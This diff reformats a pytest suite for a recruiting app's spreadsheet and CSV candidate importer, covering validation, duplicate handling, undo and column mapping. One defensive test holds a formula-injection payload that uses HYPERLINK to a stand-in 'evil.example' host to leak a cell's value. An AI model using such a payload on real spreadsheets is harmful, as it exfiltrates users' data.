@@ -21,14 +21,23 @@ from recruiter.services.importing import ImportOptions, StrictImportFailed
 from recruiter.store.database import Database
 
 DATA = Path(__file__).parent.parent / "data"
-HEAD = ["姓名", "英文名", "电子邮箱", "ORCID", "博士毕业年份", "h-index", "出生日期", "手机",
-        "现工作单位"]
+HEAD = [
+    "姓名",
+    "英文名",
+    "电子邮箱",
+    "ORCID",
+    "博士毕业年份",
+    "h-index",
+    "出生日期",
+    "手机",
+    "现工作单位",
+]
 
 
 def orcid(n: int) -> str:
     digits = f"{n:015d}"
     full = digits + orcid_check_char(digits)
-    return "-".join(full[i:i + 4] for i in range(0, 16, 4))
+    return "-".join(full[i : i + 4] for i in range(0, 16, 4))
 
 
 def write_xlsx(path: Path, rows: list[list[Any]], sheet: str = "Sheet1") -> Path:
@@ -45,14 +54,23 @@ def write_xlsx(path: Path, rows: list[list[Any]], sheet: str = "Sheet1") -> Path
     return path
 
 
-def person(name: str = "Wei Zhang", email: str | None = None, orc: str | None = None,
-           phd: Any = 2010, h: Any = 12, born: Any = date(1985, 3, 14), phone: Any = 13800138000,
-           inst: str | None = "Fudan University", zh: str | None = None) -> list[Any]:
+def person(
+    name: str = "Wei Zhang",
+    email: str | None = None,
+    orc: str | None = None,
+    phd: Any = 2010,
+    h: Any = 12,
+    born: Any = date(1985, 3, 14),
+    phone: Any = 13800138000,
+    inst: str | None = "Fudan University",
+    zh: str | None = None,
+) -> list[Any]:
     return [zh, name, email, orc, phd, h, born, phone, inst]
 
 
-def sheet(tmp_path: Path, rows: list[list[Any]], name: str = "list.xlsx",
-          head: list[str] | None = None) -> Path:
+def sheet(
+    tmp_path: Path, rows: list[list[Any]], name: str = "list.xlsx", head: list[str] | None = None
+) -> Path:
     return write_xlsx(tmp_path / name, [["2024 人才推荐名单"], [], head or HEAD, *rows])
 
 
@@ -74,29 +92,39 @@ def state(db: Database) -> dict[str, Any]:
 def add_candidate(db: Database, **values: Any) -> int:
     from recruiter.domain.identity import person_key
 
-    row = {"full_name": "Someone", "email": None, "orcid": None, "phone": None,
-           "current_institution": None, "name_zh": None, "research_area": None,
-           "created_at": "2024-01-01 00:00:00.000000",
-           "updated_at": "2024-01-01 00:00:00.000000"} | values
+    row = {
+        "full_name": "Someone",
+        "email": None,
+        "orcid": None,
+        "phone": None,
+        "current_institution": None,
+        "name_zh": None,
+        "research_area": None,
+        "created_at": "2024-01-01 00:00:00.000000",
+        "updated_at": "2024-01-01 00:00:00.000000",
+    } | values
     row["person_key"] = person_key(row["full_name"], row["name_zh"], row["current_institution"])
     cols = ", ".join(row)
     with db.engine.begin() as conn:
-        return conn.execute(text(f"INSERT INTO candidate ({cols}) VALUES "
-                                 f"({', '.join(':' + k for k in row)})"), row).lastrowid
+        return conn.execute(
+            text(f"INSERT INTO candidate ({cols}) VALUES ({', '.join(':' + k for k in row)})"), row
+        ).lastrowid
 
 
 def add_target(db: Database) -> int:
     with db.engine.begin() as conn:
         inst = conn.execute(text("INSERT INTO institution (name) VALUES ('Fudan')")).lastrowid
-        return conn.execute(text(
-            "INSERT INTO target (institution_id, title, headcount, status, created_at) "
-            "VALUES (:i, 'Professor of Physics', 1, 'open', '2024-01-01 00:00:00')"),
-            {"i": inst}).lastrowid
+        return conn.execute(
+            text(
+                "INSERT INTO target (institution_id, title, headcount, status, created_at) "
+                "VALUES (:i, 'Professor of Physics', 1, 'open', '2024-01-01 00:00:00')"
+            ),
+            {"i": inst},
+        ).lastrowid
 
 
 def check_counts(summary: importing.ImportSummary) -> None:
-    assert summary.rows == summary.created + summary.updated + summary.duplicates + \
-        summary.invalid
+    assert summary.rows == summary.created + summary.updated + summary.duplicates + summary.invalid
     assert summary.possible_duplicates <= summary.created
 
 
@@ -104,29 +132,76 @@ def check_counts(summary: importing.ImportSummary) -> None:
 
 
 def test_import_creates_candidates_with_clean_values(db: Database, tmp_path: Path) -> None:
-    path = sheet(tmp_path, [
-        person("Wei Zhang", "Wei.Zhang@Example.edu ", orcid(1), 2005.0, 12.0, zh="张伟"),
-        [None] * 9,
-        person("Na Li", "na.li@example.edu", None, "2012", "7", "2024年5月1日",
-               "+86 139 0000 0000", "Wuhan University"),
-    ])
+    path = sheet(
+        tmp_path,
+        [
+            person("Wei Zhang", "Wei.Zhang@Example.edu ", orcid(1), 2005.0, 12.0, zh="张伟"),
+            [None] * 9,
+            person(
+                "Na Li",
+                "na.li@example.edu",
+                None,
+                "2012",
+                "7",
+                "2024年5月1日",
+                "+86 139 0000 0000",
+                "Wuhan University",
+            ),
+        ],
+    )
     s = importing.run_import(db, path)
     check_counts(s)
-    assert s.as_json() == {"rows": 2, "created": 2, "updated": 0, "duplicates": 0,
-                           "possible_duplicates": 0, "invalid": 0, "batch_id": s.batch_id,
-                           "dry_run": False}
-    rows = q(db, "SELECT full_name, name_zh, email, orcid, phd_year, h_index, birth_date, phone,"
-                 " current_institution, source, import_batch_id, person_key FROM candidate "
-                 "ORDER BY id")
+    assert s.as_json() == {
+        "rows": 2,
+        "created": 2,
+        "updated": 0,
+        "duplicates": 0,
+        "possible_duplicates": 0,
+        "invalid": 0,
+        "batch_id": s.batch_id,
+        "dry_run": False,
+    }
+    rows = q(
+        db,
+        "SELECT full_name, name_zh, email, orcid, phd_year, h_index, birth_date, phone,"
+        " current_institution, source, import_batch_id, person_key FROM candidate "
+        "ORDER BY id",
+    )
     assert rows == [
-        ("Wei Zhang", "张伟", "Wei.Zhang@Example.edu", orcid(1), 2005, 12, "1985-03-14",
-         "13800138000", "Fudan University", "list.xlsx", s.batch_id,
-         "wei zhang|fudan university"),
-        ("Na Li", None, "na.li@example.edu", None, 2012, 7, "2024-05-01", "+86 139 0000 0000",
-         "Wuhan University", "list.xlsx", s.batch_id, "li na|wuhan university"),
+        (
+            "Wei Zhang",
+            "张伟",
+            "Wei.Zhang@Example.edu",
+            orcid(1),
+            2005,
+            12,
+            "1985-03-14",
+            "13800138000",
+            "Fudan University",
+            "list.xlsx",
+            s.batch_id,
+            "wei zhang|fudan university",
+        ),
+        (
+            "Na Li",
+            None,
+            "na.li@example.edu",
+            None,
+            2012,
+            7,
+            "2024-05-01",
+            "+86 139 0000 0000",
+            "Wuhan University",
+            "list.xlsx",
+            s.batch_id,
+            "li na|wuhan university",
+        ),
     ]
-    batch = q(db, "SELECT file_name, rows, created, updated, invalid, duplicates, "
-                  "possible_duplicates, source, undone_at, length(sha256) FROM import_batch")
+    batch = q(
+        db,
+        "SELECT file_name, rows, created, updated, invalid, duplicates, "
+        "possible_duplicates, source, undone_at, length(sha256) FROM import_batch",
+    )
     assert batch == [("list.xlsx", 2, 2, 0, 0, 0, 0, "list.xlsx", None, 64)]
     audit = q(db, "SELECT entity, entity_id, action, user, changes FROM audit_entry")
     assert [a[:4] for a in audit] == [("import_batch", s.batch_id, "import", "tester")]
@@ -135,20 +210,30 @@ def test_import_creates_candidates_with_clean_values(db: Database, tmp_path: Pat
 
 
 def test_chinese_name_only_and_latin_name_in_chinese_column(db: Database, tmp_path: Path) -> None:
-    path = sheet(tmp_path, [person(name=None, zh="王芳"),  # type: ignore[arg-type]
-                            person(name=None, zh="John Smith", inst="MIT")])  # type: ignore
+    path = sheet(
+        tmp_path,
+        [
+            person(name=None, zh="王芳"),  # type: ignore[arg-type]
+            person(name=None, zh="John Smith", inst="MIT"),
+        ],
+    )  # type: ignore
     s = importing.run_import(db, path)
     assert s.created == 2
     assert q(db, "SELECT full_name, name_zh FROM candidate ORDER BY id") == [
-        ("王芳", "王芳"), ("John Smith", None)]
+        ("王芳", "王芳"),
+        ("John Smith", None),
+    ]
 
 
 def test_source_option_and_source_column(db: Database, tmp_path: Path) -> None:
-    path = write_xlsx(tmp_path / "refs.xlsx", [["Name", "推荐人"], ["A One", "Prof. Li"],
-                                               ["B Two", None]])
+    path = write_xlsx(
+        tmp_path / "refs.xlsx", [["Name", "推荐人"], ["A One", "Prof. Li"], ["B Two", None]]
+    )
     importing.run_import(db, path, ImportOptions(source="Talent programme 2024"))
-    assert q(db, "SELECT source FROM candidate ORDER BY id") == [("Prof. Li",),
-                                                                 ("Talent programme 2024",)]
+    assert q(db, "SELECT source FROM candidate ORDER BY id") == [
+        ("Prof. Li",),
+        ("Talent programme 2024",),
+    ]
 
 
 # --- invalid rows ------------------------------------------------------------------------------
@@ -156,24 +241,31 @@ def test_source_option_and_source_column(db: Database, tmp_path: Path) -> None:
 NEXT_YEAR = date.today().year + 1
 
 
-@pytest.mark.parametrize(("row", "reason"), [
-    (person(name=None), "No name"),  # type: ignore[arg-type]
-    (person(email="not-an-email"), "E-mail 'not-an-email' is not a valid address"),
-    (person(email="a@b"), "is not a valid address"),
-    (person(orc="0000-0002-1825-0098"), "check digit is wrong"),
-    (person(orc="1234-5678"), "16 digits in 4 groups"),
-    (person(phd=1949), "PhD year 1949 is not between 1950"),
-    (person(phd=NEXT_YEAR + 1), f"PhD year {NEXT_YEAR + 1} is not between 1950 and {NEXT_YEAR}"),
-    (person(phd="soon"), "PhD year 'soon' is not a year"),
-    (person(h=-1), "h-index -1 is negative"),
-    (person(h=3.5), "h-index '3.5' is not a whole number"),
-    (person(h="many"), "h-index 'many' is not a whole number"),
-    (person(born=date.today() + timedelta(days=1)), "is in the future"),
-    (person(born="05/06/1980"), "ambiguous"),
-    (person(name=None, email="bad"), "No name: fill the Name or Chinese name column; E-mail"),  # type: ignore
-])
-def test_invalid_rows_are_rejected_with_a_reason(db: Database, tmp_path: Path, row: list[Any],
-                                                 reason: str) -> None:
+@pytest.mark.parametrize(
+    ("row", "reason"),
+    [
+        (person(name=None), "No name"),  # type: ignore[arg-type]
+        (person(email="not-an-email"), "E-mail 'not-an-email' is not a valid address"),
+        (person(email="a@b"), "is not a valid address"),
+        (person(orc="0000-0002-1825-0098"), "check digit is wrong"),
+        (person(orc="1234-5678"), "16 digits in 4 groups"),
+        (person(phd=1949), "PhD year 1949 is not between 1950"),
+        (
+            person(phd=NEXT_YEAR + 1),
+            f"PhD year {NEXT_YEAR + 1} is not between 1950 and {NEXT_YEAR}",
+        ),
+        (person(phd="soon"), "PhD year 'soon' is not a year"),
+        (person(h=-1), "h-index -1 is negative"),
+        (person(h=3.5), "h-index '3.5' is not a whole number"),
+        (person(h="many"), "h-index 'many' is not a whole number"),
+        (person(born=date.today() + timedelta(days=1)), "is in the future"),
+        (person(born="05/06/1980"), "ambiguous"),
+        (person(name=None, email="bad"), "No name: fill the Name or Chinese name column; E-mail"),  # type: ignore
+    ],
+)
+def test_invalid_rows_are_rejected_with_a_reason(
+    db: Database, tmp_path: Path, row: list[Any], reason: str
+) -> None:
     path = sheet(tmp_path, [person("Good Row", "good@example.edu"), row])
     s = importing.run_import(db, path)
     check_counts(s)
@@ -186,12 +278,19 @@ def test_invalid_rows_are_rejected_with_a_reason(db: Database, tmp_path: Path, r
 
 
 def test_orcid_url_and_phd_year_bounds_are_accepted(db: Database, tmp_path: Path) -> None:
-    path = sheet(tmp_path, [person("A", orc="https://orcid.org/0000-0002-1825-0097", phd=1950),
-                            person("B", orc="0000-0002-1694-233x", phd=NEXT_YEAR, h=0)])
+    path = sheet(
+        tmp_path,
+        [
+            person("A", orc="https://orcid.org/0000-0002-1825-0097", phd=1950),
+            person("B", orc="0000-0002-1694-233x", phd=NEXT_YEAR, h=0),
+        ],
+    )
     s = importing.run_import(db, path)
     assert (s.created, s.invalid) == (2, 0)
     assert q(db, "SELECT orcid, phd_year FROM candidate ORDER BY id") == [
-        ("0000-0002-1825-0097", 1950), ("0000-0002-1694-233X", NEXT_YEAR)]
+        ("0000-0002-1825-0097", 1950),
+        ("0000-0002-1694-233X", NEXT_YEAR),
+    ]
 
 
 # --- duplicates --------------------------------------------------------------------------------
@@ -200,68 +299,98 @@ def test_orcid_url_and_phd_year_bounds_are_accepted(db: Database, tmp_path: Path
 def test_duplicates_of_stored_candidates_are_skipped(db: Database, tmp_path: Path) -> None:
     a = add_candidate(db, full_name="Stored A", email="Alpha@Example.edu")
     b = add_candidate(db, full_name="Stored B", orcid=orcid(7))
-    path = sheet(tmp_path, [person("Row A", " alpha@EXAMPLE.edu "),
-                            person("Row B", "other@example.edu",
-                                   "https://orcid.org/" + orcid(7)),
-                            person("Row C", "c@example.edu")])
+    path = sheet(
+        tmp_path,
+        [
+            person("Row A", " alpha@EXAMPLE.edu "),
+            person("Row B", "other@example.edu", "https://orcid.org/" + orcid(7)),
+            person("Row C", "c@example.edu"),
+        ],
+    )
     s = importing.run_import(db, path)
     check_counts(s)
     assert (s.rows, s.created, s.duplicates) == (3, 1, 2)
-    assert [(o.status, o.match_id) for o in s.outcomes[:2]] == [("duplicate", a),
-                                                                ("duplicate", b)]
+    assert [(o.status, o.match_id) for o in s.outcomes[:2]] == [("duplicate", a), ("duplicate", b)]
     assert "Same e-mail as candidate" in (s.outcomes[0].reason or "")
     assert "Same ORCID as candidate" in (s.outcomes[1].reason or "")
     assert count(db, "candidate") == 3
-    assert q(db, "SELECT full_name FROM candidate WHERE id IN (:a, :b) ORDER BY id", a=a, b=b) \
-        == [("Stored A",), ("Stored B",)]
+    assert q(db, "SELECT full_name FROM candidate WHERE id IN (:a, :b) ORDER BY id", a=a, b=b) == [
+        ("Stored A",),
+        ("Stored B",),
+    ]
 
 
 def test_duplicates_within_the_file(db: Database, tmp_path: Path) -> None:
-    path = sheet(tmp_path, [person("First", "same@example.edu"),
-                            person("Second", "SAME@example.edu"),
-                            person("Third", "t@example.edu", orcid(3)),
-                            person("Fourth", "f@example.edu", orcid(3))])
+    path = sheet(
+        tmp_path,
+        [
+            person("First", "same@example.edu"),
+            person("Second", "SAME@example.edu"),
+            person("Third", "t@example.edu", orcid(3)),
+            person("Fourth", "f@example.edu", orcid(3)),
+        ],
+    )
     s = importing.run_import(db, path)
     assert [(o.status, o.match_row) for o in s.outcomes] == [
-        ("new", None), ("duplicate", 4), ("new", None), ("duplicate", 6)]
+        ("new", None),
+        ("duplicate", 4),
+        ("new", None),
+        ("duplicate", 6),
+    ]
     assert [o.match_id for o in s.outcomes[1::2]] == [o.candidate_id for o in s.outcomes[::2]]
     assert q(db, "SELECT full_name FROM candidate ORDER BY id") == [("First",), ("Third",)]
 
 
 def test_update_fills_only_empty_fields_and_undo_restores(db: Database, tmp_path: Path) -> None:
-    cid = add_candidate(db, full_name="Wei Zhang", email="wz@example.edu", phone=None,
-                        current_institution="Old University")
+    cid = add_candidate(
+        db,
+        full_name="Wei Zhang",
+        email="wz@example.edu",
+        phone=None,
+        current_institution="Old University",
+    )
     before = state(db)
-    path = sheet(tmp_path, [person("Wei ZHANG", "WZ@example.edu", phone="+86 1",
-                                   inst="New University")])
+    path = sheet(
+        tmp_path, [person("Wei ZHANG", "WZ@example.edu", phone="+86 1", inst="New University")]
+    )
     s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
     check_counts(s)
     assert (s.updated, s.created, s.outcomes[0].status) == (1, 0, "update")
-    assert q(db, "SELECT full_name, email, phone, current_institution, phd_year, h_index "
-                 "FROM candidate") == [("Wei Zhang", "wz@example.edu", "+86 1", "Old University",
-                                        2010, 12)]
+    assert q(
+        db, "SELECT full_name, email, phone, current_institution, phd_year, h_index FROM candidate"
+    ) == [("Wei Zhang", "wz@example.edu", "+86 1", "Old University", 2010, 12)]
     audit = q(db, "SELECT entity, entity_id, action, changes FROM audit_entry ORDER BY id")
     assert ("candidate", cid, "import_update") == audit[0][:3]
     assert json.loads(audit[0][3])["phone"] == [None, "+86 1"]
     importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
     assert state(db)["candidate"] == before["candidate"]  # every field, updated_at too
     assert q(db, "SELECT phone, phd_year, h_index, birth_date FROM candidate") == [
-        (None, None, None, None)]
+        (None, None, None, None)
+    ]
     assert q(db, "SELECT undone_at IS NOT NULL FROM import_batch") == [(1,)]
 
 
 def test_overwrite_replaces_with_non_empty_values(db: Database, tmp_path: Path) -> None:
-    add_candidate(db, full_name="Wei Zhang", email="wz@example.edu", phone="111",
-                  current_institution="Old University", research_area="Optics")
-    path = sheet(tmp_path, [person("Wei Zhang", "wz@example.edu", phone=None,
-                                   inst="New University")])
+    add_candidate(
+        db,
+        full_name="Wei Zhang",
+        email="wz@example.edu",
+        phone="111",
+        current_institution="Old University",
+        research_area="Optics",
+    )
+    path = sheet(
+        tmp_path, [person("Wei Zhang", "wz@example.edu", phone=None, inst="New University")]
+    )
     s = importing.run_import(db, path, ImportOptions(on_duplicate="overwrite"))
     assert s.updated == 1
-    assert q(db, "SELECT phone, current_institution, research_area, person_key FROM candidate") \
-        == [("111", "New University", "Optics", "wei zhang|new university")]
+    assert q(db, "SELECT phone, current_institution, research_area, person_key FROM candidate") == [
+        ("111", "New University", "Optics", "wei zhang|new university")
+    ]
     importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
     assert q(db, "SELECT phone, current_institution, person_key FROM candidate") == [
-        ("111", "Old University", "wei zhang|old university")]
+        ("111", "Old University", "wei zhang|old university")
+    ]
 
 
 def test_update_with_nothing_new_counts_as_duplicate(db: Database, tmp_path: Path) -> None:
@@ -272,17 +401,22 @@ def test_update_with_nothing_new_counts_as_duplicate(db: Database, tmp_path: Pat
     assert s.outcomes[0].reason == "Already up to date"
 
 
-def test_update_merges_in_file_duplicates_into_the_new_candidate(db: Database,
-                                                                 tmp_path: Path) -> None:
-    path = sheet(tmp_path, [person("Wei Zhang", "wz@example.edu", phone=None),
-                            person("Wei Zhang", "wz@example.edu", phone="555")])
+def test_update_merges_in_file_duplicates_into_the_new_candidate(
+    db: Database, tmp_path: Path
+) -> None:
+    path = sheet(
+        tmp_path,
+        [
+            person("Wei Zhang", "wz@example.edu", phone=None),
+            person("Wei Zhang", "wz@example.edu", phone="555"),
+        ],
+    )
     s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
     assert (s.created, s.updated) == (1, 1)
     assert q(db, "SELECT phone FROM candidate") == [("555",)]
 
 
-def test_update_refuses_an_email_that_belongs_to_someone_else(db: Database,
-                                                              tmp_path: Path) -> None:
+def test_update_refuses_an_email_that_belongs_to_someone_else(db: Database, tmp_path: Path) -> None:
     a = add_candidate(db, full_name="A", orcid=orcid(1))
     b = add_candidate(db, full_name="B", email="b@example.edu")
     path = sheet(tmp_path, [person("A", "b@example.edu", orcid(1))])
@@ -293,17 +427,28 @@ def test_update_refuses_an_email_that_belongs_to_someone_else(db: Database,
 
 
 def test_possible_duplicates_are_created_and_point_at_what_they_resemble(
-        db: Database, tmp_path: Path) -> None:
+    db: Database, tmp_path: Path
+) -> None:
     stored = add_candidate(db, full_name="Zhang Wei", current_institution="Fudan University")
-    path = sheet(tmp_path, [person("Wei  ZHANG", "w1@example.edu", inst="the Fudan University"),
-                            person("Li Na", "n1@example.edu", inst="MIT"),
-                            person("Na Li", "n2@example.edu", inst="MIT"),
-                            person("Na Li", "n3@example.edu", inst=None),
-                            person("Na Li", "n4@example.edu", inst=None)])
+    path = sheet(
+        tmp_path,
+        [
+            person("Wei  ZHANG", "w1@example.edu", inst="the Fudan University"),
+            person("Li Na", "n1@example.edu", inst="MIT"),
+            person("Na Li", "n2@example.edu", inst="MIT"),
+            person("Na Li", "n3@example.edu", inst=None),
+            person("Na Li", "n4@example.edu", inst=None),
+        ],
+    )
     s = importing.run_import(db, path)
     check_counts(s)
-    assert [o.status for o in s.outcomes] == ["possible_duplicate", "new", "possible_duplicate",
-                                              "new", "new"]
+    assert [o.status for o in s.outcomes] == [
+        "possible_duplicate",
+        "new",
+        "possible_duplicate",
+        "new",
+        "new",
+    ]
     assert (s.created, s.possible_duplicates) == (5, 2)
     assert s.outcomes[0].match_id == stored
     assert s.outcomes[2].match_row == 5 and s.outcomes[2].match_id == s.outcomes[1].candidate_id
@@ -318,9 +463,16 @@ def test_dry_run_writes_nothing(db: Database, tmp_path: Path) -> None:
     before = state(db)
     path = sheet(tmp_path, [person("A", "a@example.edu"), person(name=None)])  # type: ignore
     s = importing.run_import(db, path, ImportOptions(dry_run=True))
-    assert s.as_json() == {"rows": 2, "created": 1, "updated": 0, "duplicates": 0,
-                           "possible_duplicates": 0, "invalid": 1, "batch_id": None,
-                           "dry_run": True}
+    assert s.as_json() == {
+        "rows": 2,
+        "created": 1,
+        "updated": 0,
+        "duplicates": 0,
+        "possible_duplicates": 0,
+        "invalid": 1,
+        "batch_id": None,
+        "dry_run": True,
+    }
     assert state(db) == before
 
 
@@ -335,13 +487,20 @@ def test_strict_writes_nothing_when_a_row_is_invalid(db: Database, tmp_path: Pat
     assert importing.run_import(db, ok, ImportOptions(strict=True)).created == 1
 
 
-def test_undo_deletes_created_candidates_and_their_applications(db: Database,
-                                                                tmp_path: Path) -> None:
+def test_undo_deletes_created_candidates_and_their_applications(
+    db: Database, tmp_path: Path
+) -> None:
     target = add_target(db)
     existing = add_candidate(db, full_name="Old", email="old@example.edu")
     before = state(db)
-    path = sheet(tmp_path, [person("A", "a@example.edu"), person("B", "b@example.edu"),
-                            person("Old", "old@example.edu", phone="9")])
+    path = sheet(
+        tmp_path,
+        [
+            person("A", "a@example.edu"),
+            person("B", "b@example.edu"),
+            person("Old", "old@example.edu", phone="9"),
+        ],
+    )
     s = importing.run_import(db, path, ImportOptions(target_id=target, on_duplicate="update"))
     assert (s.created, s.updated) == (2, 1)
     apps = q(db, "SELECT candidate_id, stage, outcome FROM application ORDER BY candidate_id")
@@ -356,16 +515,17 @@ def test_undo_deletes_created_candidates_and_their_applications(db: Database,
         if t == "setting":
             continue  # the remembered mapping stays
         assert after[t] == before[t], t
-    assert q(db, "SELECT action FROM audit_entry WHERE entity = 'import_batch' ORDER BY id") == \
-        [("import",), ("undo",)]
+    assert q(db, "SELECT action FROM audit_entry WHERE entity = 'import_batch' ORDER BY id") == [
+        ("import",),
+        ("undo",),
+    ]
     with pytest.raises(ConflictError, match="already undone"):
         importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
     with pytest.raises(NotFound, match="does not exist"):
         importing.undo_import(db, 999)
 
 
-def test_unknown_target_is_refused_before_anything_is_written(db: Database,
-                                                              tmp_path: Path) -> None:
+def test_unknown_target_is_refused_before_anything_is_written(db: Database, tmp_path: Path) -> None:
     before = state(db)
     with pytest.raises(NotFound, match="Target 42 does not exist"):
         importing.run_import(db, sheet(tmp_path, [person()]), ImportOptions(target_id=42))
@@ -378,11 +538,11 @@ def test_unknown_target_is_refused_before_anything_is_written(db: Database,
 def test_mapping_is_remembered_for_the_same_headers(db: Database, tmp_path: Path) -> None:
     head = ["Who", "Mail", "Affil", "Colour"]
     path = write_xlsx(tmp_path / "a.xlsx", [head, ["A One", "a@x.edu", "MIT", "red"]])
-    with pytest.raises(RecruiterError,
-                       match=r"No column of the sheet 'Sheet1' of a.xlsx maps to a name"):
+    with pytest.raises(
+        RecruiterError, match=r"No column of the sheet 'Sheet1' of a.xlsx maps to a name"
+    ):
         importing.preview(db, path)
-    mapping = {"Who": "full_name", "Mail": "email", "Affil": "current_institution",
-               "Colour": None}
+    mapping = {"Who": "full_name", "Mail": "email", "Affil": "current_institution", "Colour": None}
     importing.run_import(db, path, ImportOptions(mapping=mapping))
     assert count(db, "setting") == 1
     second = write_xlsx(tmp_path / "b.xlsx", [head, ["B Two", "b@x.edu", "ETH", "blue"]])
@@ -390,24 +550,36 @@ def test_mapping_is_remembered_for_the_same_headers(db: Database, tmp_path: Path
     s = importing.run_import(db, second)
     assert s.created == 1
     assert q(db, "SELECT full_name, email, current_institution FROM candidate ORDER BY id") == [
-        ("A One", "a@x.edu", "MIT"), ("B Two", "b@x.edu", "ETH")]
+        ("A One", "a@x.edu", "MIT"),
+        ("B Two", "b@x.edu", "ETH"),
+    ]
     assert s.unmapped == ["Colour"]
 
 
 def test_unmapped_columns_can_be_kept_in_notes(db: Database, tmp_path: Path) -> None:
-    path = write_xlsx(tmp_path / "a.xlsx", [["Name", "备注", "Hobby", "Shoe size"],
-                                            ["A One", "met in Wuhan", "chess", 42],
-                                            ["B Two", None, None, None]])
+    path = write_xlsx(
+        tmp_path / "a.xlsx",
+        [
+            ["Name", "备注", "Hobby", "Shoe size"],
+            ["A One", "met in Wuhan", "chess", 42],
+            ["B Two", None, None, None],
+        ],
+    )
     importing.run_import(db, path, ImportOptions(keep_unmapped=True))
     assert q(db, "SELECT notes FROM candidate ORDER BY id") == [
-        ("met in Wuhan\nHobby: chess\nShoe size: 42",), (None,)]
+        ("met in Wuhan\nHobby: chess\nShoe size: 42",),
+        (None,),
+    ]
 
 
 def test_bad_mappings_are_explained(db: Database, tmp_path: Path) -> None:
     path = write_xlsx(tmp_path / "a.xlsx", [["Name", "Mail", "Mail2"], ["A", "a@x.cn", "b@x.cn"]])
     with pytest.raises(ValidationError, match="Two columns are mapped to E-mail"):
-        importing.preview(db, path, ImportOptions(mapping={"Name": "full_name", "Mail": "email",
-                                                           "Mail2": "email"}))
+        importing.preview(
+            db,
+            path,
+            ImportOptions(mapping={"Name": "full_name", "Mail": "email", "Mail2": "email"}),
+        )
     with pytest.raises(ValidationError, match="not candidate fields: salary"):
         importing.preview(db, path, ImportOptions(mapping={"Name": "salary"}))
     with pytest.raises(ValidationError, match="not a duplicate rule"):
@@ -419,14 +591,19 @@ def test_bad_mappings_are_explained(db: Database, tmp_path: Path) -> None:
 
 def test_gbk_csv_from_chinese_excel(db: Database, tmp_path: Path) -> None:
     path = tmp_path / "名单.csv"
-    path.write_bytes("姓名,电子邮箱,手机,出生年月,现工作单位\r\n"
-                     "张伟,zw@example.edu,013800138000,1980.05,复旦大学\r\n"
-                     "李娜,ln@example.edu,13900000000,1982/3/4,武汉大学\r\n".encode("gbk"))
+    path.write_bytes(
+        "姓名,电子邮箱,手机,出生年月,现工作单位\r\n"
+        "张伟,zw@example.edu,013800138000,1980.05,复旦大学\r\n"
+        "李娜,ln@example.edu,13900000000,1982/3/4,武汉大学\r\n".encode("gbk")
+    )
     s = importing.run_import(db, path)
     assert s.created == 2
-    assert q(db, "SELECT full_name, phone, birth_date, current_institution FROM candidate "
-                 "ORDER BY id") == [("张伟", "013800138000", "1980-05-01", "复旦大学"),
-                                    ("李娜", "13900000000", "1982-03-04", "武汉大学")]
+    assert q(
+        db, "SELECT full_name, phone, birth_date, current_institution FROM candidate ORDER BY id"
+    ) == [
+        ("张伟", "013800138000", "1980-05-01", "复旦大学"),
+        ("李娜", "13900000000", "1982-03-04", "武汉大学"),
+    ]
 
 
 @pytest.mark.parametrize("name", ["candidates.xls", "candidates.ods"])
@@ -434,17 +611,21 @@ def test_xls_and_ods(db: Database, name: str) -> None:
     s = importing.run_import(db, DATA / name)
     assert (s.created, s.invalid) == (2, 1)
     assert s.outcomes[2].row == 6
-    assert q(db, "SELECT full_name, name_zh, birth_date, phd_year, phone FROM candidate "
-                 "ORDER BY id") == [
+    assert q(
+        db, "SELECT full_name, name_zh, birth_date, phd_year, phone FROM candidate ORDER BY id"
+    ) == [
         ("Wei Zhang", "张伟", "1985-03-14", 2010, "13800138000"),
-        ("Na Li", "李娜", "1988-07-02", 2015, "+86 139 0000 0000")]
+        ("Na Li", "李娜", "1988-07-02", 2015, "+86 139 0000 0000"),
+    ]
 
 
 def test_formula_looking_names_stay_plain_text(db: Database, tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Zhang Wei")'
     csv = tmp_path / "f.csv"
-    csv.write_text(f'Name,Email\n"{evil.replace(chr(34), chr(34) * 2)}",z@example.edu\n'
-                   '"=1+1",bad\n', encoding="utf-8")
+    csv.write_text(
+        f'Name,Email\n"{evil.replace(chr(34), chr(34) * 2)}",z@example.edu\n"=1+1",bad\n',
+        encoding="utf-8",
+    )
     s = importing.run_import(db, csv)
     assert q(db, "SELECT full_name FROM candidate") == [(evil,)]
     out = tmp_path / "rejected.xlsx"
@@ -453,10 +634,17 @@ def test_formula_looking_names_stay_plain_text(db: Database, tmp_path: Path) -> 
     assert ws["A2"].value == "=1+1" and ws["A2"].data_type == "s"
 
 
-def test_rejected_rows_workbook_can_be_fixed_and_imported_again(db: Database,
-                                                                tmp_path: Path) -> None:
-    path = sheet(tmp_path, [person("A", "a@example.edu"), person("B", "broken"),
-                            person(name=None, email="c@example.edu")])  # type: ignore
+def test_rejected_rows_workbook_can_be_fixed_and_imported_again(
+    db: Database, tmp_path: Path
+) -> None:
+    path = sheet(
+        tmp_path,
+        [
+            person("A", "a@example.edu"),
+            person("B", "broken"),
+            person(name=None, email="c@example.edu"),
+        ],
+    )  # type: ignore
     s = importing.run_import(db, path)
     out = tmp_path / "rejected.xlsx"
     assert s.write_rejects(out) == 2
@@ -475,14 +663,18 @@ def test_rejected_rows_workbook_can_be_fixed_and_imported_again(db: Database,
     assert count(db, "candidate") == 3
 
 
-@pytest.mark.parametrize(("content", "message"), [
-    (b"", "is empty"),
-    (b"%PDF-1.4\x00\x01\x02 binary", "not a spreadsheet"),
-    (b"PK\x03\x04 corrupt zip", "damaged"),
-    (b"\x01\x02\x03,\x04\n", "No column"),
-])
-def test_bad_files_write_nothing(db: Database, tmp_path: Path, content: bytes,
-                                 message: str) -> None:
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"", "is empty"),
+        (b"%PDF-1.4\x00\x01\x02 binary", "not a spreadsheet"),
+        (b"PK\x03\x04 corrupt zip", "damaged"),
+        (b"\x01\x02\x03,\x04\n", "No column"),
+    ],
+)
+def test_bad_files_write_nothing(
+    db: Database, tmp_path: Path, content: bytes, message: str
+) -> None:
     before = state(db)
     path = tmp_path / "file.xlsx" if content.startswith(b"PK") else tmp_path / "file.csv"
     if content.startswith(b"%PDF"):
@@ -496,8 +688,9 @@ def test_bad_files_write_nothing(db: Database, tmp_path: Path, content: bytes,
 # --- atomicity ---------------------------------------------------------------------------------
 
 
